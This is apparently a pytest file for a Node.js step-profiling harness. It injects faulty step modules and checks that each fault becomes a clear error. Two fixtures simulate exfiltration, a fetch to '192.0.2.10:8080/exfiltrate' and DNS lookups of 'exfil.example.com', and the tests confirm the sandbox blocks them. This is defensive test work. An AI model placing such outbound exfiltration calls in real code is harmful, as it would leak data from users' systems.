"""Bad steps and a bad harness: each fault becomes a clear error row, and the other steps' results are kept.

The faulty steps are real modules in a temporary KeeperHub-layout corpus, run by the real harness in real
Node processes (one profiling run for all of them, in parallel)."""

from __future__ import annotations

import json
import os
import socket
import textwrap
import time
from pathlib import Path

import pytest

from wfprof_pipeline.cli import main
from wfprof_pipeline.lib.profiling.models import CategoryCounts, HarnessDocument, PhaseResult, StepOutcome
from wfprof_pipeline.lib.profiling.runner import ProfileOptions, RunResult, profile_steps
from wfprof_pipeline.lib.profiling.stub import StubError, StubProcess
from wfprof_pipeline.lib.profiling.summary import summarize
from wfprof_pipeline.lib.registry import load_for_root

STEPS = {
    "ok": "export async function step(input) { return { success: true, doubled: input.n * 2 }; }",
    "throws": "export async function step() { throw new Error('boom in step'); }",
    "rejects": "export function step() { return Promise.reject(new TypeError('bad value')); }",
    "exits": "export async function step() { process.exit(7); }",
    "never-settles": "export function step() { return new Promise(() => {}); }",
    "spins": "export function step() { for (;;) {} }",
    "allocates": "export function step() { const a = []; for (;;) a.push(new Array(1e5).fill(1.5)); }",
    "floating": textwrap.dedent("""\
        export async function step() {
          setTimeout(() => Promise.reject(new Error('late failure')), 1);
          await new Promise((resolve) => setTimeout(resolve, 200));
          return { success: true };
        }"""),
    "spawns-and-spins": textwrap.dedent("""\
        import { spawn } from 'node:child_process';
        import fs from 'node:fs';
        export function step(input) {
          const child = spawn('sleep', ['300'], { stdio: 'ignore' });
          fs.writeFileSync(input.pidFile, String(child.pid));
          for (;;) {}
        }"""),
    "returns-failure": "export async function step() { return { success: false, error: 'API key missing' }; }",
    "egress": textwrap.dedent("""\
        import http from 'node:http';
        export async function step(input) {
          const attempts = [];
          try { await fetch('http://192.0.2.10:8080/exfiltrate'); attempts.push('fetch connected'); }
          catch (e) { attempts.push(`fetch: ${e.cause?.code ?? e.message}`); }
          await new Promise((resolve) => {
            const req = http.get({ host: '127.0.0.1', port: input.port, path: '/' }, () => resolve());
            req.on('error', (e) => { attempts.push(`http: ${e.code}`); resolve(); });
          });
          return { success: true, attempts };
        }"""),
    "dns-egress": textwrap.dedent("""\
        import dns from 'node:dns';
        import { lookup } from 'node:dns';
        import { resolveTxt } from 'node:dns/promises';
        export async function step() {
          const seen = [];
          await new Promise((done) => dns.resolve4('exfil.example.com', (e) => { seen.push(e?.code); done(); }));
          const resolver = new dns.Resolver();
          await new Promise((done) => resolver.resolveMx('example.org', (e) => { seen.push(e?.code); done(); }));
          try { await resolveTxt('example.net'); } catch (e) { seen.push(e.code); }
          await new Promise((done) => lookup('example.edu', (e) => { seen.push(e?.code); done(); }));
          return { success: true, seen };
        }"""),
    "leaves-a-child": textwrap.dedent("""\
        import { spawn } from 'node:child_process';
        import fs from 'node:fs';
        export async function step(input) {
          const child = spawn('sleep', ['300'], { stdio: 'ignore' });
          fs.writeFileSync(input.pidFile, String(child.pid));
          return { success: true };
        }"""),
    "unmatched": textwrap.dedent("""\
        export async function step(input) {
          const res = await fetch(`${input.base}/not-canned`, { method: 'POST', body: '{}' });
          return { success: true, status: res.status };
        }"""),
    "binary-output": textwrap.dedent("""\
        export async function step() {
          process.stderr.write(Buffer.from([0xff, 0xfe, 0x80, 0x0a]));
          process.stdout.write(Buffer.from([0xff, 0x80]));  // no newline: right before the harness document
          return { success: true };
        }"""),
    "absolute-path": textwrap.dedent("""\
        export async function step(input) {
          // like SDKs that resolve an absolute API path against their base URL, dropping any path prefix
          const res = await fetch(new URL('/v3/mail/send', input.base), { method: 'POST', body: '{}' });
          return { success: res.status === 202, status: res.status };
        }"""),
    "missing-export": "export async function somethingElse() { return {}; }",
    "syntax": "export async function step( { return 1; }",
}

REGISTRY = """
[steps."faults/{name}"]
module = "plugins/faults/steps/{module}"
export = "{export}"
action_type = "faults/{name}"
io_class = "none"
{extra}
"""

EXTRA = {
    "ok": "input = { n = 21 }",
    "never-settles": "timeout_s = 8",  # the harness gives up at 5.9 s: room for a slow start on a busy machine
    "spins": "timeout_s = 3",
    "spawns-and-spins": "timeout_s = 3",
    "allocates": "timeout_s = 30",
    "absolute-path": 'input = { base = "{{stub}}/api/" }\n[[steps."faults/absolute-path".responses]]\n'
                     'path = "/v3/mail/send"\nstatus = 202',
    "unmatched": 'input = { base = "{{stub}}" }\n[[steps."faults/unmatched".responses]]\npath = "/canned"',
}


@pytest.fixture(scope="module")
def listener() -> socket.socket:
    """A loopback TCP server that is NOT the stub: steps must not reach it."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.setblocking(False)
    yield sock
    sock.close()


@pytest.fixture(scope="module")
def fault_corpus(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("faults")
    steps = root / "plugins" / "faults" / "steps"
    steps.mkdir(parents=True)
    entries = []
    for name, code in STEPS.items():
        (steps / f"{name}.mjs").write_text(code + "\n")
        entries.append(REGISTRY.format(name=name, module=f"{name}.mjs", export="step", extra=EXTRA.get(name, "")))
    entries.append(REGISTRY.format(name="missing-module", module="gone.mjs", export="step", extra=""))
    (root / "registry.toml").write_text("".join(entries))
    return root


@pytest.fixture(scope="module")
def fault_run(fault_corpus: Path, listener: socket.socket) -> dict[str, RunResult]:
    registry = load_for_root(fault_corpus)
    port = listener.getsockname()[1]
    overrides = {"faults/egress": {"port": port}, "faults/spawns-and-spins": {"pidFile": str(fault_corpus / "pid")},
                 "faults/leaves-a-child": {"pidFile": str(fault_corpus / "child-pid")}}
    # The in-process guard and the process-group kill, on their own (namespaces are tested in test_isolation,
    # where a child's pid is the namespace's, not the host's).
    options = ProfileOptions(modes=("precise",), repeat=1, heap_mb=64, timeout_s=20, input_overrides=overrides,
                             isolation="guard")
    return {r.step_id.split("/")[1]: r for r in profile_steps(registry, None, options)}


@pytest.mark.parametrize(
    ("name", "kind", "fragment"),
    [
        ("throws", "throw", "boom in step"),
        ("rejects", "throw", "TypeError: bad value"),
        ("exits", "exit", "process.exit(7)"),
        ("never-settles", "timeout", "did not settle"),
        ("spins", "timeout", "timed out after 3 s"),
        ("spawns-and-spins", "timeout", "process tree killed"),
        ("allocates", "heap", "heap cap of 64 MB"),
        ("floating", "uncaught", "late failure"),
        ("returns-failure", "failed_result", "API key missing"),
        ("egress", "egress", "192.0.2.10:8080"),
        ("dns-egress", "egress", "resolve4 exfil.example.com"),
        ("unmatched", "unmatched_request", "POST /not-canned"),
        ("missing-export", "export", 'export "step" not found; the module exports functions: somethingElse'),
        ("missing-module", "not_profiled", "gone.mjs does not exist"),
        ("syntax", "compile", "cannot compile"),
    ],
)
def test_each_fault_is_a_clear_error(fault_run: dict[str, RunResult], name: str, kind: str, fragment: str) -> None:
    result = fault_run[name]
    assert result.failed
    assert result.error_kind == kind, result.error
    assert fragment in result.error


def test_the_good_step_is_kept_and_measured(fault_run: dict[str, RunResult]) -> None:
    ok = fault_run["ok"]
    assert not ok.failed
    assert ok.outcome.result == '{"success":true,"doubled":42}'
    assert ok.outcome.phases["execute"].calls.step >= 1
    rows = summarize(list(fault_run.values())).profiles
    assert {r.step_id for r in rows} == {f"faults/{n}" for n in fault_run}
    assert [r.error for r in rows if r.step_id == "faults/ok"] == [None, None, None]  # import, execute, warm


def test_requests_to_absolute_paths_reach_the_steps_canned_responses(fault_run: dict[str, RunResult]) -> None:
    """Each step has its own stub port: a request is the step's whatever its path, so it is answered and counted."""
    out = fault_run["absolute-path"]
    assert not out.failed, out.error
    assert [(r.method, r.path, r.status) for r in out.outcome.io["execute"]] == [("POST", "/v3/mail/send", 202)]


def test_bytes_that_are_not_utf8_on_stdout_or_stderr_lose_nothing(fault_run: dict[str, RunResult]) -> None:
    out = fault_run["binary-output"]
    assert not out.failed, out.error
    assert out.outcome.result == '{"success":true}' and "\ufffd" in out.stderr_tail


def _alive(pid: int) -> bool:
    """Running (a killed child whose parent is gone may linger as a zombie until reaped: that is dead)."""
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:
        return Path(f"/proc/{pid}/stat").read_text().split(") ", 1)[1][0] != "Z"
    except (FileNotFoundError, IndexError):
        return False


@pytest.mark.parametrize(("step", "pid_file"), [("spawns-and-spins", "pid"), ("leaves-a-child", "child-pid")])
def test_the_steps_process_tree_is_killed(fault_run: dict[str, RunResult], fault_corpus: Path, step: str,
                                          pid_file: str) -> None:
    """After a timeout, and after a normal exit too: a child the step left behind does not outlive it."""
    child = int((fault_corpus / pid_file).read_text())
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        if not _alive(child):
            return  # the step's `sleep 300` child died with it
        time.sleep(0.1)
    pytest.fail(f"the {step} step's child process {child} outlived the step")


def test_partial_results_survive_a_step_failure(fault_run: dict[str, RunResult]) -> None:
    # the import phase was measured before the step exited / threw / hung
    for name in ("exits", "throws", "never-settles"):
        assert "import" in fault_run[name].outcome.phases


def test_egress_is_blocked_before_it_connects(fault_run: dict[str, RunResult], listener: socket.socket) -> None:
    egress = fault_run["egress"].outcome
    targets = {b.target for b in egress.egress_blocked}
    port = listener.getsockname()[1]
    assert targets == {"192.0.2.10:8080", f"127.0.0.1:{port}"}
    assert all(b.phase == "execute" for b in egress.egress_blocked)
    assert "EWFPROF_EGRESS_BLOCKED" in egress.result  # what the step itself saw
    dns_step = fault_run["dns-egress"].outcome
    assert {b.target for b in dns_step.egress_blocked} == {
        "resolve4 exfil.example.com", "resolveMx example.org", "resolveTxt example.net", "example.edu"}
    assert dns_step.result.count("EWFPROF_EGRESS_BLOCKED") == 4  # no query was sent
    with pytest.raises(BlockingIOError):  # nobody ever connected to the other loopback server
        listener.accept()


@pytest.mark.parametrize(
    ("script", "fragment"),
    [
        ("console.log('hello, not a document');", "not a profile document"),
        ("process.stdout.write('{\"harness\": \"something-else\"}\\n');", "not a profile document"),
        ("process.stderr.write('dying now\\n'); process.kill(process.pid, 'SIGKILL');", "harness died (signal 9)"),
        ("process.stderr.write('broken\\n'); process.exit(3);", "harness died (code 3)"),
    ],
)
def test_harness_garbage_or_death_is_reported(fault_corpus: Path, tmp_path: Path, script: str, fragment: str) -> None:
    fake = tmp_path / "fake-harness.mjs"
    fake.write_text(script + "\n")
    registry = load_for_root(fault_corpus)
    results = profile_steps(registry, ["faults/ok"], ProfileOptions(modes=("precise",), repeat=1, harness=fake))
    assert results[0].error_kind == "harness"
    assert fragment in results[0].error


def _outcome(step: float, package: float, node: float) -> StepOutcome:
    calls = CategoryCounts(step=step, package=package, node=node)
    phase = PhaseResult(durationMs=1.0, calls=calls, totalCalls=int(step + package + node))
    return StepOutcome(id="s", ok=True, phases={"execute": phase})


def test_summary_flags_varying_counts_and_takes_medians() -> None:
    runs = [RunResult("s", "precise", i, outcome=_outcome(10, p, n)) for i, (p, n) in
            enumerate([(100, 50), (100, 70), (101, 60)])]
    row = summarize(runs).profiles[0]
    assert row.deterministic is False and row.calls_packages == 100 and row.calls_node_internals == 60
    same = [RunResult("s", "precise", i, outcome=_outcome(10, 100, n)) for i, n in enumerate([50, 90])]
    assert summarize(same).profiles[0].deterministic is True  # node internals may vary
    assert summarize(same[:1]).profiles[0].deterministic is None  # one run proves nothing


def test_document_model_rejects_foreign_json() -> None:
    with pytest.raises(ValueError):
        HarnessDocument.model_validate_json('{"harness": "other", "version": 1}')


def test_cli_unknown_step_and_bad_input(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["profile", "--step", "web3/nope"]) == 2
    err = capsys.readouterr().err
    assert "unknown step id 'web3/nope'" in err and "web3/check-balance" in err
    assert main(["profile", "--step", "math/aggregate", "--input", "{not json"]) == 2
    assert "--input is not valid JSON" in capsys.readouterr().err
    assert main(["profile", "--step", "math/aggregate", "--input", "[1, 2]"]) == 2
    assert "must be a JSON object" in capsys.readouterr().err
    assert main(["profile", "--compare", "math/aggregate"]) == 2
    assert "at least two" in capsys.readouterr().err
    assert main(["profile", "--compare", "math/aggregate, math/aggregate"]) == 2  # the same step twice
    assert "at least two different" in capsys.readouterr().err


def test_cli_json_keeps_the_seed_keys(capsys: pytest.CaptureFixture[str]) -> None:
    rc = main(["profile", "--step", "math/aggregate", "--precise", "--json",
               "--input", json.dumps({"items": [{"v": 1}, {"v": 2}, {"v": 6}], "field": "v"})])
    assert rc == 0
    out = json.loads(capsys.readouterr().out)
    for key in ("stepName", "mode", "samples", "hitCount", "uniqueFunctions", "totalCalls", "durationMs",
                "memoryUsedMB", "topFunctions"):
        assert key in out
    assert out["stepName"] == "math/aggregate" and out["mode"] == "precise"
    assert out["phases"]["execute"]["calls"]["own"] > 0 and out["error"] is None
    # the seed's totalCalls: import + the first execution (the warm phase is reported beside it)
    assert out["totalCalls"] == out["phases"]["import"]["totalCalls"] + out["phases"]["execute"]["totalCalls"]


@pytest.mark.parametrize(
    ("script", "wait_s", "fragment"),
    [
        ("exec sleep 30", 0.5, "no port announced within 0.5 s"),  # hangs before announcing its port
        ("echo 'cannot bind' >&2; exit 1", 30, "cannot bind"),
    ],
)
def test_a_stub_that_does_not_start_is_a_clear_error(tmp_path: Path, script: str, wait_s: float,
                                                     fragment: str) -> None:
    fake_node = tmp_path / "node"
    fake_node.write_text(f"#!/bin/sh\n{script}\n")
    fake_node.chmod(0o755)
    with pytest.raises(StubError, match=fragment):
        StubProcess(str(fake_node), start_timeout_s=wait_s)
